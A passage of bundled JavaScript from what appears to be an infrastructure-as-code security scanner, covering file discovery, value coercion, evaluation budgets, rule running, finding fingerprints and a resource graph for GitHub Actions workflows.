  "\u2028": "\\u2028",
  "\u2029": "\\u2029"
};
var MAY_NEED_ESCAPE = /[\u0000-\u001f"\\<>&\u2028\u2029\ud800-\udfff]/;
function encodeJsonString(text) {
  if (!MAY_NEED_ESCAPE.test(text)) return `"${text}"`;
  return `"${text.replace(/[\u0000-\u001f"\\<>&\u2028\u2029]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, (char) => {
    const escape = GO_ESCAPES[char];
    if (escape) return escape;
    if (char.charCodeAt(0) >= 55296) return "�";
    return `\\u00${char.charCodeAt(0).toString(16).padStart(2, "0")}`;
  })}"`;
}
function formatNumber(value) {
  if (Object.is(value, -0)) return "-0";
  const shortest = String(value);
  const exponentAt = shortest.indexOf("e");
  if (exponentAt === -1) return shortest;
  const negative = shortest.startsWith("-");
  const mantissa = shortest.slice(negative ? 1 : 0, exponentAt);
  const exponent = Number(shortest.slice(exponentAt + 1));
  const point = mantissa.indexOf(".");
  const digits = mantissa.replace(".", "");
  const pointAt = (point === -1 ? mantissa.length : point) + exponent;
  let plain;
  if (pointAt <= 0) plain = `0.${"0".repeat(-pointAt)}${digits}`;
  else if (pointAt >= digits.length) plain = digits + "0".repeat(pointAt - digits.length);
  else plain = `${digits.slice(0, pointAt)}.${digits.slice(pointAt)}`;
  return negative ? `-${plain}` : plain;
}

// packages/engine/src/graph/terraform/values.ts
var EvaluationError = class extends Error {
};
function fail(message) {
  throw new EvaluationError(message);
}
var computed = /* @__PURE__ */ new WeakSet();
function markComputed(value) {
  if (Array.isArray(value)) {
    if (computed.has(value)) return value;
    computed.add(value);
    for (const item of value) markComputed(item);
  } else if (isObject(value)) {
    if (computed.has(value)) return value;
    computed.add(value);
    for (const key of Object.keys(value)) markComputed(value[key]);
  }
  return value;
}
function isComputed(value) {
  return (Array.isArray(value) || isObject(value)) && computed.has(value);
}
function hasKey(object, key) {
  return Object.prototype.hasOwnProperty.call(object, key);
}
function isFullyKnown2(value) {
  if (isUnknown(value)) return false;
  if (Array.isArray(value)) return value.every(isFullyKnown2);
  if (isObject(value)) return Object.keys(value).every((key) => isFullyKnown2(value[key]));
  return true;
}
function sortedKeys(object) {
  return Object.keys(object).sort(compareStrings);
}
function objectOf(entries) {
  const object = emptyObject();
  for (const [key, value] of entries) object[key] = value;
  return object;
}
function typeName(value) {
  if (value === null) return "null";
  if (isUnknown(value)) return "unknown";
  if (Array.isArray(value)) return "list";
  if (isObject(value)) return "object";
  return typeof value;
}
var NUMBER_TEXT = /^-?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][-+]?\d+)?$/;
function asString(value, what = "value") {
  if (typeof value === "string") return value;
  if (typeof value === "number") return formatNumber(value);
  if (typeof value === "boolean") return String(value);
  if (value === null) fail(`${what} is null`);
  return fail(`${what} must be a string, not ${typeName(value)}`);
}
function asNumber(value, what = "value") {
  if (typeof value === "number") return value;
  if (typeof value === "string" && NUMBER_TEXT.test(value)) return Number(value);
  if (value === null) fail(`${what} is null`);
  return fail(`${what} must be a number, not ${typeName(value)}`);
}
function asBool(value, what = "value") {
  if (typeof value === "boolean") return value;
  if (value === "true") return true;
  if (value === "false") return false;
  if (value === null) fail(`${what} is null`);
  return fail(`${what} must be a bool, not ${typeName(value)}`);
}
function asInteger(value, what = "value") {
  const number = asNumber(value, what);
  if (!Number.isInteger(number)) fail(`${what} must be a whole number`);
  return number;
}
function asList2(value, what = "value") {
  if (Array.isArray(value)) return value;
  if (value === null) fail(`${what} is null`);
  return fail(`${what} must be a list, not ${typeName(value)}`);
}
function asObject(value, what = "value") {
  if (isObject(value)) return value;
  if (value === null) fail(`${what} is null`);
  return fail(`${what} must be a map, not ${typeName(value)}`);
}
function equals(a, b) {
  if (isUnknown(a) || isUnknown(b)) return Unknown;
  if (a === null || b === null) return a === b;
  if (Array.isArray(a) || Array.isArray(b)) {
    if (!Array.isArray(a) || !Array.isArray(b) || a.length !== b.length) return false;
    let unknown = false;
    for (let index = 0; index < a.length; index++) {
      const same = equals(a[index], b[index]);
      if (same === false) return false;
      if (same !== true) unknown = true;
    }
    return unknown ? Unknown : true;
  }
  if (isObject(a) || isObject(b)) {
    if (!isObject(a) || !isObject(b)) return false;
    const keys = Object.keys(a);
    if (keys.length !== Object.keys(b).length) return false;
    let unknown = false;
    for (const key of keys) {
      if (!hasKey(b, key)) return false;
      const same = equals(a[key], b[key]);
      if (same === false) return false;
      if (same !== true) unknown = true;
    }
    return unknown ? Unknown : true;
  }
  return a === b;
}
function distinctValues(items) {
  const out = [];
  const seen = /* @__PURE__ */ new Set();
  for (const item of items) {
    const key = identity(item);
    if (seen.has(key)) continue;
    seen.add(key);
    out.push(item);
  }
  return out;
}
function identity(value) {
  if (isUnknown(value)) return "\0unknown";
  if (Array.isArray(value)) return `[${value.map(identity).join(",")}]`;
  if (isObject(value)) return `{${sortedKeys(value).map((key) => `${JSON.stringify(key)}:${identity(value[key])}`).join(",")}}`;
  return typeof value === "string" ? JSON.stringify(value) : String(value);
}
function toSet(items) {
  const distinct = distinctValues(items);
  if (!distinct.every((item) => !isUnknown(item))) return distinct;
  if (distinct.every((item) => typeof item === "string")) return distinct.sort(compareStrings);
  if (distinct.every((item) => typeof item === "number")) return distinct.sort((a, b) => a - b);
  return distinct;
}
function keyString(value, what = "key") {
  if (typeof value === "string") return value;
  if (typeof value === "number" || typeof value === "boolean") return asString(value);
  return fail(`${what} must be a string`);
}

// packages/engine/src/graph/terraform/budget.ts
var MAX_STEPS_PER_MODULE = 2e6;
var MAX_EXPANSION = 1e4;
var BudgetExceeded = class extends Error {
  constructor(reason) {
    super(reason);
    this.reason = reason;
  }
  reason;
};
var Budget = class {
  constructor(maxSteps = MAX_STEPS_PER_MODULE, maxExpansion = MAX_EXPANSION) {
    this.maxSteps = maxSteps;
    this.maxExpansion = maxExpansion;
  }
  maxSteps;
  maxExpansion;
  #steps = 0;
  exhausted;
  /** Expansions refused for their size, reported once each as diagnostics. */
  refused = /* @__PURE__ */ new Set();
  step() {
    if (this.exhausted) throw new BudgetExceeded(this.exhausted);
    if (++this.#steps > this.maxSteps) {
      this.exhausted = `evaluation stopped after ${this.maxSteps} steps`;
      throw new BudgetExceeded(this.exhausted);
    }
  }
  /** Checks the size of something about to be produced; too large is an error the caller turns into Unknown. */
  expansion(count, what) {
    if (count <= this.maxExpansion) return;
    const message = `${what} would produce ${count} elements, more than the limit of ${this.maxExpansion}; its value is unknown`;
    this.refused.add(message);
    fail(message);
  }
};

// packages/engine/src/limits.ts
var DEFAULT_LIMITS = Object.freeze({
  maxFileBytes: 64 * 1024 * 1024,
  maxAliasNodes: 1e5,
  maxDepth: 500,
  maxDocumentsPerFile: 1e4,
  timeoutSeconds: 0,
  maxEvaluationSteps: MAX_STEPS_PER_MODULE,
  maxExpansion: MAX_EXPANSION
});
function resolveLimits(given = {}) {
  const limits = { ...DEFAULT_LIMITS };
  for (const key of Object.keys(DEFAULT_LIMITS)) {
    const value = given[key];
    if (value === void 0) continue;
    const least = key === "timeoutSeconds" ? 0 : 1;
    if (typeof value !== "number" || !Number.isFinite(value) || value < least || key !== "timeoutSeconds" && !Number.isInteger(value)) {
      throw new RangeError(`limits.${key} must be ${key === "timeoutSeconds" ? "a number of seconds, 0 or more" : "a whole number, 1 or more"}; got ${String(value)}`);
    }
    limits[key] = value;
  }
  return limits;
}
var Deadline = class _Deadline {
  constructor(seconds, now = () => performance.now()) {
    this.seconds = seconds;
    this.now = now;
    this.#end = seconds > 0 ? now() + seconds * 1e3 : Number.POSITIVE_INFINITY;
  }
  seconds;
  now;
  #end;
  #reported = false;
  static none() {
    return new _Deadline(0);
  }
  get expired() {
    return this.#end !== Number.POSITIVE_INFINITY && this.now() >= this.#end;
  }
  /** Milliseconds left, or Infinity without a budget. */
  remaining() {
    return this.#end === Number.POSITIVE_INFINITY ? Number.POSITIVE_INFINITY : Math.max(0, this.#end - this.now());
  }
  /** The one error that says the result is incomplete, and what was skipped; later calls return nothing. */
  exceeded(skipped) {
    if (this.#reported) return [];
    this.#reported = true;
    return [
      {
        level: "error",
        code: "scan-timeout",
        message: `the scan took longer than its time limit of ${this.seconds} s and stopped; ${skipped}, so the result is incomplete`
      }
    ];
  }
};

// packages/engine/src/discover/discover.ts
var ALWAYS_EXCLUDED = ["**/node_modules/**", "**/.git/**", "**/.terraform/**"];
async function discover(options) {
  const diagnostics = [];
  const absolutePaths = options.paths.filter((p) => p !== "-").map((p) => path4.resolve(options.cwd, p));
  const root = options.root ? path4.resolve(options.cwd, options.root) : chooseRoot(options.cwd, absolutePaths);
  const maxBytes = options.maxFileBytes ?? DEFAULT_LIMITS.maxFileBytes;
  const files = [];
  const seen = /* @__PURE__ */ new Set();
  const realRoot = realDirectory(root);
  const candidates2 = [];
  for (const absolute of absolutePaths) {
    const display = toRelative(root, absolute);
    const stat = statOrError(absolute);
    if (stat instanceof Error) {
      diagnostics.push({ level: "error", code: "path-not-found", message: describeFsError(stat), file: display });
      continue;
    }
    const boundary = isInside(root, absolute) ? realRoot : realDirectory(stat.isDirectory() ? absolute : path4.dirname(absolute));
    if (stat.isDirectory()) {
      if (!isWithin(boundary, realDirectory(absolute))) {
        diagnostics.push({ level: "error", code: "outside-root", message: "a symbolic link to a directory outside the scanned root; not followed", file: display });
        continue;
      }
      const fg = (await import("./out-IEEEN5J5.mjs")).default;
      const listed = listDirectory(fg, absolute, options.exclude ?? [], root);
      for (const found of listed.files) candidates2.push({ absolute: found, explicit: false, link: false, walked: true, boundary });
      for (const found of listed.links) candidates2.push({ absolute: found, explicit: false, link: true, walked: false, boundary });
    } else {
      candidates2.push({ absolute, explicit: true, link: false, walked: false, boundary });
    }
  }
  const unique = [];
  for (const candidate of candidates2) {
    const relative = toRelative(root, candidate.absolute);
    if (seen.has(relative)) continue;
    seen.add(relative);
    unique.push({ absolute: candidate.absolute, explicit: candidate.explicit, link: candidate.link, walked: candidate.walked, boundary: candidate.boundary, relative });
  }
  const deadline = options.deadline;
  let unread = 0;
  const reads = unique.map(({ absolute, relative, boundary, explicit, link, walked }) => {
    if (deadline?.expired) {
      unread++;
      return void 0;
    }
    if (link && !isCandidate(relative)) return describeLink(absolute, relative);
    return walked && readWalkedFile(absolute, relative, maxBytes) || readSource(absolute, relative, maxBytes, boundary, explicit ? "error" : "warning");
  });
  if (unread > 0 && deadline) diagnostics.push(...deadline.exceeded(`${unread} ${unread === 1 ? "file was" : "files were"} not read`));
  for (const [index, { explicit, relative, link }] of unique.entries()) {
    const read = reads[index];
    if (!read) continue;
    if ("skipped" in read) {
      diagnostics.push(read.skipped);
      continue;
    }
    if ("diagnostic" in read) {
      if (explicit || isCandidate(relative)) diagnostics.push(read.diagnostic);
      continue;
    }
    const kind = classify(relative, read.text);
    if (kind) files.push({ path: relative, text: read.text, kind });
    else if (explicit) diagnostics.push({ level: "warning", code: "unrecognised-file", message: "not a Terraform, Kubernetes or GitHub Actions file; skipped", file: relative });
  }
  if (options.paths.includes("-")) {
    const text = options.stdin ?? "";
    const kind = classify("-", text);
    if (kind) files.push({ path: "-", text, kind });
    else diagnostics.push({ level: "error", code: "unrecognised-input", message: "standard input: neither a Terraform plan or state, a Kubernetes manifest nor a workflow", file: "-" });
  }
  files.sort((a, b) => a.path < b.path ? -1 : a.path > b.path ? 1 : 0);
  return { root, files, diagnostics };
}
function chooseRoot(cwd, absolutePaths) {
  const outside = absolutePaths.some((p) => path4.relative(cwd, p).startsWith(".."));
  if (!outside || absolutePaths.length === 0) return cwd;
  return commonAncestor(absolutePaths.map((p) => isProbablyFile(p) ? path4.dirname(p) : p));
}
function isProbablyFile(p) {
  return isCandidate(p);
}
function commonAncestor(paths) {
  let common = paths[0].split(path4.sep);
  for (const p of paths.slice(1)) {
    const parts = p.split(path4.sep);
    let i = 0;
    while (i < common.length && i < parts.length && common[i] === parts[i]) i++;
    common = common.slice(0, i);
  }
  return common.join(path4.sep) || path4.sep;
}
function toRelative(root, absolute) {
  const relative = path4.relative(root, absolute).split(path4.sep).join("/");
  return relative === "" ? path4.basename(absolute) : relative;
}
var MAX_GITIGNORE_BYTES = 1024 * 1024;
function listDirectory(fg, directory, exclude, root) {
  const entries = fg.sync(["**/*"], {
    cwd: directory,
    dot: true,
    onlyFiles: false,
    objectMode: true,
    followSymbolicLinks: false,
    ignore: [...ALWAYS_EXCLUDED],
    absolute: true,
    suppressErrors: true
  });
  const files = entries.filter((entry) => entry.dirent.isFile()).map((entry) => entry.path);
  const links = entries.filter((entry) => entry.dirent.isSymbolicLink()).map((entry) => entry.path);
  const gitignores = files.filter((entry) => path4.basename(entry) === ".gitignore");
  const matchers = new Map(gitignores.map((file) => [path4.dirname(file), (0, import_ignore.default)().add(readGitignore(file))]));
  const excluded = exclude.length ? (0, import_ignore.default)().add([...exclude]) : void 0;
  const wanted = (entry) => !ignoredByGitignore(entry, directory, matchers) && (!excluded || !isInside(root, entry) || !excluded.ignores(path4.relative(root, entry).split(path4.sep).join("/")));
  return { files: files.filter((entry) => isCandidate(entry) && wanted(entry)).sort(), links: links.filter(wanted).sort() };
}
function describeLink(absolute, relative) {
  const stat = statOrError(absolute);
  if (stat instanceof Error) {
    return stat.code === "ELOOP" ? { skipped: { level: "note", code: "broken-symlink", message: "a loop of symbolic links; not followed", file: relative } } : void 0;
  }
  return stat.isDirectory() ? { skipped: { level: "note", code: "symlink-to-directory", message: "a symbolic link to a directory; not followed", file: relative } } : void 0;
}
function readGitignore(file) {
  try {
    const stat = fs3.statSync(file);
    return stat.size > MAX_GITIGNORE_BYTES ? "" : fs3.readFileSync(file, "utf8");
  } catch {
    return "";
  }
}
function realDirectory(directory) {
  try {
    return fs3.realpathSync.native(directory);
  } catch {
    return path4.resolve(directory);
  }
}
function statOrError(file) {
  try {
    return fs3.statSync(file);
  } catch (error) {
    return error;
  }
}
function isWithin(directory, file) {
  const relative = path4.relative(directory, file);
  return relative === "" || !relative.startsWith("..") && !path4.isAbsolute(relative);
}
function ignoredByGitignore(entry, top, matchers) {
  if (matchers.size === 0) return false;
  for (let base = path4.dirname(entry); ; base = path4.dirname(base)) {
    const matcher = matchers.get(base);
    if (matcher && matcher.ignores(path4.relative(base, entry).split(path4.sep).join("/"))) return true;
    if (base === top || !isInside(top, base) || path4.dirname(base) === base) return false;
  }
}
function isInside(base, file) {
  const relative = path4.relative(base, file);
  return relative !== "" && !relative.startsWith("..") && !path4.isAbsolute(relative);
}
function readSource(absolute, relative, maxBytes, boundary, outsideLevel) {
  let real;
  try {
    real = fs3.realpathSync.native(absolute);
  } catch (error) {
    const code = error.code;
    if (code === "ELOOP" || code === "ENOENT") {
      const cause = code === "ELOOP" ? "a loop of symbolic links" : "a symbolic link to nothing";
      return { skipped: { level: "note", code: "broken-symlink", message: `${cause}; not read`, file: relative } };
    }
    return { diagnostic: { level: "error", code: "unreadable-file", message: describeFsError(error), file: relative } };
  }
  if (!isWithin(boundary, real)) {
    return { skipped: { level: outsideLevel, code: "outside-root", message: "a symbolic link to a file outside the scanned root; not read", file: relative } };
  }
  try {
    const stat = fs3.statSync(real);
    if (stat.isDirectory()) return { skipped: { level: "note", code: "symlink-to-directory", message: "a symbolic link to a directory; not followed", file: relative } };
    if (!stat.isFile()) return { diagnostic: { level: "error", code: "unreadable-file", message: "not a regular file; not read", file: relative } };
    if (stat.size > maxBytes) {
      return { diagnostic: { level: "error", code: "file-too-large", message: `${stat.size} bytes is more than the limit of ${maxBytes}; not scanned`, file: relative } };
    }
    const bytes = fs3.readFileSync(real);
    if (bytes.length > maxBytes) {
      return { diagnostic: { level: "error", code: "file-too-large", message: `more than the limit of ${maxBytes} bytes; not scanned`, file: relative } };
    }
    return decode(bytes, relative);
  } catch (error) {
    return { diagnostic: { level: "error", code: "unreadable-file", message: describeFsError(error), file: relative } };
  }
}
var UTF8 = new TextDecoder("utf-8", { fatal: true, ignoreBOM: false });
var WALKED_FILE_FLAGS = fs3.constants.O_NOFOLLOW === void 0 ? void 0 : fs3.constants.O_RDONLY | fs3.constants.O_NOFOLLOW | (fs3.constants.O_NONBLOCK ?? 0);
function readWalkedFile(absolute, relative, maxBytes) {
  if (WALKED_FILE_FLAGS === void 0) return void 0;
  let descriptor;
  try {
    descriptor = fs3.openSync(absolute, WALKED_FILE_FLAGS);
  } catch {
    return void 0;
  }
  try {
    const stat = fs3.fstatSync(descriptor);
    if (!stat.isFile() || stat.size > maxBytes) return void 0;
    const bytes = Buffer.allocUnsafe(stat.size);
    let length = 0;
    while (length < bytes.length) {
      const read = fs3.readSync(descriptor, bytes, length, bytes.length - length, null);
      if (read === 0) break;
      length += read;
    }
    return decode(bytes.subarray(0, length), relative);
  } catch {
    return void 0;
  } finally {
    fs3.closeSync(descriptor);
  }
}
function decode(bytes, relative) {
  if (bytes[0] === 255 && bytes[1] === 254) return { text: new TextDecoder("utf-16le").decode(bytes.subarray(2)) };
  if (bytes[0] === 254 && bytes[1] === 255) return { text: new TextDecoder("utf-16be").decode(bytes.subarray(2)) };
  if (bytes.subarray(0, 8192).includes(0)) {
    return { diagnostic: { level: "error", code: "binary-file", message: "binary content (a NUL byte); not scanned", file: relative } };
  }
  try {
    const text = UTF8.decode(bytes);
    return { text };
  } catch {
    return { diagnostic: { level: "error", code: "invalid-utf8", message: "not valid UTF-8; not scanned", file: relative } };
  }
}
function describeFsError(error) {
  switch (error.code) {
    case "ENOENT":
      return "no such file or directory";
    case "EACCES":
    case "EPERM":
      return "permission denied";
    case "EISDIR":
      return "is a directory";
    case "ELOOP":
      return "too many levels of symbolic links";
    default:
      return error.message;
  }
}

// packages/engine/src/report/fingerprint.ts
import crypto from "node:crypto";
function fingerprintFinding(parts) {
  return fingerprintOfNormalisedLine(parts.ruleId, parts.resource, parts.attribute, normaliseLineText(parts.lineText));
}
function fingerprintOfNormalisedLine(ruleId, resource, attribute, normalisedLine) {
  return sha256Hex(`${ruleId}\0${resource}\0${attribute}\0${normalisedLine}`).slice(0, 32);
}
var sha256Hex = typeof crypto.hash === "function" ? (text) => crypto.hash("sha256", text, "hex") : (text) => crypto.createHash("sha256").update(text).digest("hex");
function normaliseLineText(lineText) {
  return lineText.replace(/\s+/g, " ").trim();
}

// packages/engine/src/evaluate/evaluate.ts
function evaluate(graph, rules, options) {
  const findings = [];
  const diagnostics = [];
  const lines = new LineCache(options.sourceText);
  const rulesByType = indexRulesByType(rules);
  const reported = /* @__PURE__ */ new Set();
  const deadline = options.deadline;
  const optionsOf = /* @__PURE__ */ new Map();
  for (const rule of rules) optionsOf.set(rule, options.ruleOptions?.[rule.meta.id] ?? {});
  let checked = 0;
  types: for (const type of graph.types()) {
    const typeRules = rulesByType.get(type);
    if (!typeRules) continue;
    const rulesByPlatform = /* @__PURE__ */ new Map();
    for (const resource of graph.ofType(type)) {
      if (deadline?.expired) {
        const left = graph.size - checked;
        diagnostics.push(...deadline.exceeded(`rules were not run on up to ${left} of ${graph.size} resources`));
        break types;
      }
      checked++;
      if (resource.mode === "data") continue;
      let platformRules = rulesByPlatform.get(resource.platform);
      if (!platformRules) rulesByPlatform.set(resource.platform, platformRules = typeRules.filter((rule) => rule.meta.platforms.includes(resource.platform)));
      for (const rule of platformRules) {
        graph.work.ruleInvocations++;
        const context = {
          graph,
          options: optionsOf.get(rule),
          report(descriptor) {
            graph.work.reports++;
            const finding = toFinding(rule, resource, descriptor, graph, lines);
            const { file, start } = finding.location;
            const key = `${rule.meta.id}${file}${start.line}${start.column}${finding.message}`;
            if (reported.has(key)) return;
            reported.add(key);
            findings.push(finding);
          }
        };
        try {
          rule.check(resource, context);
        } catch (error) {
          diagnostics.push({
            level: "error",
            code: "rule-error",
            message: `rule ${rule.meta.id} failed on ${resource.name} (${resource.source.file}): ${error instanceof Error ? error.message : String(error)}`,
            file: resource.source.file,
            range: resource.source.at(resource.source.header)
          });
        }
      }
    }
  }
  return { findings, diagnostics };
}
function indexRulesByType(rules) {
  const index = /* @__PURE__ */ new Map();
  for (const rule of rules) {
    for (const type of rule.meta.resourceTypes) {
      const list = index.get(type);
      if (list) list.push(rule);
      else index.set(type, [rule]);
    }
  }
  return index;
}
function toFinding(rule, resource, descriptor, graph, lines) {
  const at = descriptor.at ?? [];
  const range2 = descriptor.range ?? resource.source.locate(at).range;
  const location = resource.source.at(range2);
  const attribute = formatPath(at);
  const related = (descriptor.related ?? []).flatMap((item) => {
    const target = item.resource ? graph.get(item.resource) : resource;
    if (!target) return [];
    return [{ location: target.source.at(target.source.locate(item.at ?? []).range), message: item.message }];
  });
  for (const call of resource.callChain ?? []) related.push({ location: call.location, message: `in module "${call.name}" called here` });
  return {
    ruleId: rule.meta.id,
    severity: rule.meta.severity,
    category: rule.meta.category,
    platform: resource.platform,
    message: descriptor.message,
    resource: resource.id,
    resourceName: resource.name,
    resourceType: resource.type,
    location,
    attribute,
    related,
    fingerprint: fingerprintOfNormalisedLine(rule.meta.id, resource.id, attribute, lines.normalisedLine(location.file, location.start.line))
  };
}
var LineCache = class {
  constructor(sourceText) {
    this.sourceText = sourceText;
  }
  sourceText;
  #lines = /* @__PURE__ */ new Map();
  #normalised = /* @__PURE__ */ new Map();
  normalisedLine(file, line) {
    let byLine = this.#normalised.get(file);
    if (!byLine) this.#normalised.set(file, byLine = /* @__PURE__ */ new Map());
    let normalised = byLine.get(line);
    if (normalised === void 0) byLine.set(line, normalised = normaliseLineText(this.#line(file, line)));
    return normalised;
  }
  /** Split on the line feed alone, much cheaper than a pattern: normalising drops the `\r` of a `\r\n`. */
  #line(file, line) {
    let lines = this.#lines.get(file);
    if (!lines) this.#lines.set(file, lines = (this.sourceText(file) ?? "").split("\n"));
    return lines[line - 1] ?? "";
  }
};

// packages/engine/src/graph/builder-failure.ts
function documentFailure(builder, document, error) {
  const cause = error instanceof Error ? error.message : String(error);
  const which = document.index ? ` (document ${document.index + 1})` : "";
  return { level: "error", code: "internal-error", message: `internal error in the ${builder} graph builder${which}, its resources may be missing: ${cause}`, file: document.file };
}

// packages/engine/src/load/document.ts
function mapGet(node, key) {
  if (!node || node.kind !== "map") return void 0;
  for (const entry of node.entries) if (entry.key === key) return entry.value;
  return void 0;
}
function mapEntry(node, key) {
  if (!node || node.kind !== "map") return void 0;
  return node.entries.find((entry) => entry.key === key);
}

// packages/engine/src/graph/actions/actions-resource.ts
function actionsResource(spec, build) {
  const { document, node } = spec;
  const source = new SourceMap(document.file, spec.range ?? node.range, spec.header, node);
  const origin = document.kind === "action-metadata" ? "action-metadata" : "workflow";
  const resource = {
    id: spec.id,
    platform: "github-actions",
    type: spec.type,
    name: spec.name,
    origin,
    attributes: treeToValue(node),
    source
  };
  if (spec.parent !== void 0) resource.parent = spec.parent;
  registerExpressions(resource, node, () => build.sourceText(document.file));
  return resource;
}
function entryRange(entry) {
  return { start: entry.keyRange.start, end: entry.value.range.end };
}
function documentHeader(node) {
  const named = node.entries.find((entry) => entry.key === "name") ?? node.entries[0];
  return named ? entryRange(named) : node.range;
}
function repositoryRootOf(file) {
  const marker = file.lastIndexOf(".github/workflows/");
  if (marker === -1) return "";
  return marker === 0 || file[marker - 1] === "/" ? file.slice(0, marker) : "";
}
function displayName(root, file) {
  const name = mapGet(root, "name");
  return name?.kind === "scalar" && typeof name.value === "string" && name.value !== "" ? name.value : file;
}

// packages/engine/src/graph/actions/action-metadata.ts
function buildActionMetadata(document, root, graph, build) {
  const file = document.file;
  const actionId = `github-actions:${file}`;
  const action = actionsResource(
    {
      document,
      node: root,
      id: actionId,
      type: "action",
      name: displayName(root, file),
      header: documentHeader(root)
    },
    build
  );
  if (!graph.add(action)) return;
  const steps = mapGet(mapGet(root, "runs"), "steps");
  if (steps?.kind !== "list") return;
  steps.items.forEach((step, index) => {
    if (step.kind !== "map") return;
    const stepId = `${actionId}#runs.steps[${index}]`;
    const first = step.entries[0];
    const stepResource = actionsResource(
      {
        document,
        node: step,
        id: stepId,
        type: "step",
        name: `runs.steps[${index}]`,
        header: first ? first.keyRange : step.range,
        parent: actionId
      },
      build
    );
    if (!graph.add(stepResource)) return;
    graph.link({ from: actionId, to: stepId, kind: "contains", via: ["runs", "steps", index] });
    const uses = mapGet(step, "uses");
    if (uses?.kind === "scalar" && typeof uses.value === "string") {
      build.uses.push({ from: stepResource, value: uses.value, caller: "step", repositoryRoot: "" });
    }
  });
}

// packages/engine/src/graph/actions/uses-edges.ts
function remoteUsesId(uses) {
  switch (uses.kind) {
    case "repository":
    case "reusable-workflow": {
      const path15 = uses.path ? `/${uses.path}` : "";
      const ref = uses.ref !== void 0 ? `@${uses.ref}` : "";
      return `github-actions:uses:${uses.owner}/${uses.repo}${path15}${ref}`;
    }
    case "docker":
      return `github-actions:uses:docker://${uses.image}${uses.tag ? `:${uses.tag}` : ""}${uses.digest ? `@${uses.digest}` : ""}`;
    default:
      return void 0;
  }
}
function linkUses(sites, graph) {
  for (const site of sites) {
    const uses = parseUses(site.value);
    const to = targetOf(uses, site, graph);
    if (to) graph.link({ from: site.from.id, to, kind: "uses", via: ["uses"] });
  }
}
function targetOf(uses, site, graph) {
  switch (uses.kind) {
    case "local":
      return site.caller === "step" ? localActionId(site.repositoryRoot + uses.path, graph) : void 0;
    case "local-reusable-workflow":
      return site.caller === "job" ? `github-actions:${site.repositoryRoot}${uses.path}` : void 0;
    default:
      return remoteUsesId(uses);
  }
}
function localActionId(directory, graph) {
  const prefix = directory === "" ? "github-actions:" : `github-actions:${directory.replace(/\/$/, "")}/`;
  const yml = `${prefix}action.yml`;
  const yaml = `${prefix}action.yaml`;
  return !graph.get(yml) && graph.get(yaml) ? yaml : yml;
}

// packages/engine/src/graph/actions/workflow.ts
function buildWorkflow(document, root, graph, build) {
  const file = document.file;
  const workflowId = `github-actions:${file}`;
  const workflow = actionsResource(
    {
      document,
      node: root,
      id: workflowId,
      type: "workflow",
      name: displayName(root, file),
      header: documentHeader(root)
    },
    build
  );
  if (!graph.add(workflow)) return;
  const jobs = mapGet(root, "jobs");
  if (jobs?.kind !== "map") return;
  const repositoryRoot = repositoryRootOf(file);
  for (const jobEntry of jobs.entries) {
    const job = jobEntry.value;
    if (job.kind !== "map") continue;
    const jobId = `${workflowId}#jobs.${jobEntry.key}`;
    const jobResource = actionsResource(
      { document, node: job, id: jobId, type: "job", name: `jobs.${jobEntry.key}`, header: jobEntry.keyRange, range: entryRange(jobEntry), parent: workflowId },
      build
    );
    if (!graph.add(jobResource)) continue;
    graph.link({ from: workflowId, to: jobId, kind: "contains", via: ["jobs", jobEntry.key] });
    const uses = mapGet(job, "uses");
    if (uses?.kind === "scalar" && typeof uses.value === "string") {
      build.uses.push({ from: jobResource, value: uses.value, caller: "job", repositoryRoot });
    }
    linkNeeds(jobId, workflowId, mapGet(job, "needs"), graph);
    const steps = mapGet(job, "steps");
    if (steps?.kind !== "list") continue;
    steps.items.forEach((step, index) => {
      if (step.kind !== "map") return;
      const stepId = `${jobId}.steps[${index}]`;
      const first = step.entries[0];
      const stepResource = actionsResource(
        {
          document,
          node: step,
          id: stepId,
          type: "step",
          name: `jobs.${jobEntry.key}.steps[${index}]`,
          header: first ? first.keyRange : step.range,
          parent: jobId
        },
        build
      );
      if (!graph.add(stepResource)) return;
      graph.link({ from: jobId, to: stepId, kind: "contains", via: ["steps", index] });
      const stepUses = mapGet(step, "uses");
      if (stepUses?.kind === "scalar" && typeof stepUses.value === "string") {
        build.uses.push({ from: stepResource, value: stepUses.value, caller: "step", repositoryRoot });
      }
    });
  }
}
function linkNeeds(jobId, workflowId, needs, graph) {
  if (needs?.kind === "scalar" && typeof needs.value === "string") {
    graph.link({ from: jobId, to: `${workflowId}#jobs.${needs.value}`, kind: "references", via: ["needs"] });
  } else if (needs?.kind === "list") {
    needs.items.forEach((item, index) => {
      if (item.kind === "scalar" && typeof item.value === "string") {
        graph.link({ from: jobId, to: `${workflowId}#jobs.${item.value}`, kind: "references", via: ["needs", index] });
      }
    });
  }
}

// packages/engine/src/graph/actions/build-actions.ts
function buildActions(documents, graph, sourceText) {
  const build = { sourceText, uses: [] };
  for (const document of documents) {
    if (document.kind !== "workflow" && document.kind !== "action-metadata") continue;
    const root = document.root;
    if (root.kind !== "map") {
      graph.diagnostics.push({
        level: "warning",
        code: "github-actions-not-a-mapping",
        message: `${document.file} is not a ${document.kind === "workflow" ? "workflow" : "action definition"}: its top level is not a mapping`,
        file: document.file,
        range: { file: document.file, ...root.range }
      });
      continue;
    }
    try {
      if (document.kind === "workflow") buildWorkflow(document, root, graph, build);
      else buildActionMetadata(document, root, graph, build);
    } catch (error) {
      graph.diagnostics.push(documentFailure("GitHub Actions", document, error));
    }
  }
  linkUses(build.uses, graph);
}

// packages/engine/src/graph/cross-platform/link-cross-platform.ts
function linkCrossPlatform(graph) {
  linkAssumedRoles(graph, awsRoleIndex(graph));
}

// packages/engine/src/model/work.ts
function newWorkCounters() {
  return {
    filesLoaded: 0,
    documentsLoaded: 0,
    resourcesAdded: 0,
    edgesLinked: 0,
    graphLookups: 0,
    itemsReturned: 0,
    selectorComparisons: 0,
    ruleInvocations: 0,
    reports: 0
  };
}

// packages/engine/src/graph/graph.ts
var ResourceGraph = class {
  #byId = /* @__PURE__ */ new Map();
  #byType = /* @__PURE__ */ new Map();
  #outgoing = /* @__PURE__ */ new Map();
  #incoming = /* @__PURE__ */ new Map();
  /** The kinds of edge present, by `from` and then `to`: ids as they are, no key string built per edge. */
  #edgeKinds = /* @__PURE__ */ new Map();
  #edgeCount = 0;
  /** Per type, per index name: resources by key (`findBy`). */
  #indexes = /* @__PURE__ */ new Map();
  /** Types whose lists may still hold replaced resources. */
  #staleTypes = /* @__PURE__ */ new Set();
  diagnostics = [];
  /** What building and querying this graph cost, in unit operations. */
  work = newWorkCounters();
  #revision = 0;
